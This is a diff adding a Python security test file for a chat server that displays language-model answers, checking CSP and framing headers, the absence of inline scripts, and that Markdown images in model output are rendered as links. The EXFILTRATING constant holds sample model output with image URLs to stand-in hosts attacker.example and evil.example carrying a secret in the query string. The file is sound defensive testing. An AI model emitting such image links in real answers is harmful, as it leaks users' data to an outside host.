@@ -1,0 +1,66 @@
+"""3. Headers: a strict CSP, no framing, nosniff, no referrer; remote images in model Markdown become links."""
+
+from __future__ import annotations
+
+import re
+
+import aiohttp
+from bs4 import BeautifulSoup
+
+from server import render_markdown
+from sidespin.llm.scripted import ScriptedBackend
+from tests.conftest import serve_app
+from tests.live_page import page_of
+from tests.security.conftest import raw_request
+from tests.test_server import read_stream, turn_id
+
+EXFILTRATING = "Here you go ![chart](https://attacker.example/c.png?secret=abc) and ![x](//evil.example/p.gif)"
+
+
+def test_every_response_carries_the_strict_headers(echo_model, data_dir):
+    with serve_app(echo_model, data_dir) as base:
+        for method, path in [("GET", "/c/nope"), ("GET", "/health"), ("GET", "/static/app.js"), ("GET", "/missing"),
+                             ("POST", "/mcp-tool-executor"), ("GET", "/")]:
+            _, headers, _ = raw_request(base, method, path, b"{}" if method == "POST" else None)
+            csp = headers["content-security-policy"]
+            for rule in ("default-src 'self'", "script-src 'self'", "img-src 'self' data:", "frame-ancestors 'none'"):
+                assert rule in csp, (path, csp)
+            assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
+            assert headers["x-frame-options"] == "DENY"
+            assert headers["x-content-type-options"] == "nosniff"
+            assert headers["referrer-policy"] == "no-referrer"
+
+
+def test_the_page_has_no_inline_script_and_no_inline_handler(echo_model, data_dir):
+    with serve_app(echo_model, data_dir) as base:
+        _, headers, _ = raw_request(base, "GET", "/")
+        status, _, body = raw_request(base, "GET", headers["location"])
+        assert status == 200
+    soup = BeautifulSoup(body, "html.parser")
+    assert all(script.get("src", "").startswith("/static/") and not script.string for script in soup("script"))
+    for element in soup.find_all(True):
+        bad = [name for name in element.attrs if name.startswith("on") or name.startswith("hx-on")]
+        assert not bad, (element.name, bad)
+        assert "style" not in element.attrs
+    config = soup.find("meta", attrs={"name": "htmx-config"})["content"]
+    assert '"allowEval":false' in config and '"includeIndicatorStyles":false' in config
+
+
+def test_markdown_images_in_model_output_are_links_never_fetched():
+    html = str(render_markdown(EXFILTRATING))
+    assert "<img" not in html
+    assert 'href="https://attacker.example/c.png?secret=abc"' in html and "🖼 chart" in html
+
+
+async def test_a_model_answer_with_a_remote_image_reaches_the_page_as_a_link(data_dir):
+    with serve_app(ScriptedBackend([[EXFILTRATING]] * 3), data_dir) as base:
+        async with aiohttp.ClientSession() as session:
+            async with session.get(base + "/") as response:
+                cid = str(response.url).rsplit("/", 1)[1]
+            async with session.post(base + "/send", data={"cid": cid, "msg": "show me"}) as response:
+                tid = turn_id(await response.text())
+            shown = page_of(tid, await read_stream(session, base, tid)).html()
+            async with session.get(f"{base}/c/{cid}") as response:
+                reloaded = await response.text()
+    for html in (shown, reloaded):
+        assert "attacker.example" in html and not re.search(r"<img[^>]+attacker", html)
